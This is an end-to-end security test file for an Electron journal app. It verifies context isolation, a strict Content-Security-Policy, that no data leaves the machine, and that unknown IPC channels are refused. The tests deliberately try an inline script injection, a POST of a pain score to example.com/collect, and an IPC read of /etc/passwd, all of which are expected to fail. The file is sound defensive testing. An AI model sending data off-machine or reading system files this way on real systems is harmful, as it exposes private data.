import { channelNames } from '../src/shared/contract/channels'
import { CONTENT_SECURITY_POLICY } from '../src/shared/csp'
import { expect, test } from './harness/fixtures'

test('the page has the bridge and nothing of Node or Electron', async ({ app }) => {
  const globals = await app.evaluate(() => ({
    journal: Object.keys(window.journal).sort(),
    require: typeof (window as unknown as { require?: unknown }).require,
    process: typeof (window as unknown as { process?: unknown }).process,
    ipcRenderer: typeof (window as unknown as { ipcRenderer?: unknown }).ipcRenderer,
    frozen: Object.isFrozen(window.journal),
  }))
  expect(globals).toEqual({
    // Exactly the contract's domains (app, checkins, treatments, …) and `on`, nothing more.
    journal: [...new Set(channelNames.map((name) => name.split(':')[0])), 'on'].sort(),
    require: 'undefined',
    process: 'undefined',
    ipcRenderer: 'undefined',
    frozen: true,
  })
})

test('the Content-Security-Policy is strict and blocks inline script and remote origins', async ({
  app,
  offsiteRequests,
}) => {
  // Header (from the app protocol's handler) and meta tag both carry the strict policy.
  expect(
    await app.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
  ).toBe(CONTENT_SECURITY_POLICY)
  const served = await app.evaluate(async () =>
    (await fetch('/index.html')).headers.get('content-security-policy'),
  )
  expect(served).toBe(CONTENT_SECURITY_POLICY)
  expect(CONTENT_SECURITY_POLICY).not.toMatch(/unsafe-eval|unsafe-inline|https?:|\*/)

  const verdicts = await app.evaluate(async () => {
    const out: Record<string, string> = {}
    const script = document.createElement('script')
    script.textContent = 'window.__inline = true'
    document.head.append(script)
    out['inline'] = String((window as unknown as { __inline?: boolean }).__inline === true)
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'pain=7' })
      out['fetch'] = 'sent'
    } catch (error) {
      out['fetch'] = (error as Error).name
    }
    return out
  })
  expect(verdicts).toEqual({ inline: 'false', fetch: 'TypeError' })
  // The CSP stopped the fetch before it was even attempted.
  expect(offsiteRequests).toEqual([])
})

test('using the app sends nothing off the machine', async ({ app, offsiteRequests }) => {
  await app.getByRole('link', { name: 'Journal' }).click()
  await app.getByRole('link', { name: 'Settings' }).click()
  await app.getByRole('link', { name: 'Today' }).click()
  expect(offsiteRequests).toEqual([])
})

test('an unknown channel is refused by main', async ({ app }) => {
  const result = await app.evaluate(() =>
    (
      window as unknown as { __unknotInvoke: (c: string, i: unknown) => Promise<unknown> }
    ).__unknotInvoke('fs:readFile', { path: '/etc/passwd' }),
  )
  expect(result).toMatchObject({ ok: false, error: { code: 'unknown_channel' } })
})
